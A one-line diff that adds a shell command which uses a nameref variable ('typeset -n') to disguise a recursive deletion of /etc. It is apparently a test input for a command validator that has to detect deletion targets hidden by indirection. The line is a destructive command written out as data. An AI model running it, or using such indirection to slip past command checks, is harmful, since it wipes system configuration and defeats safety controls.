@@ -1,0 +1,1 @@
+typeset -n p=q; q=/etc; rm -r $p
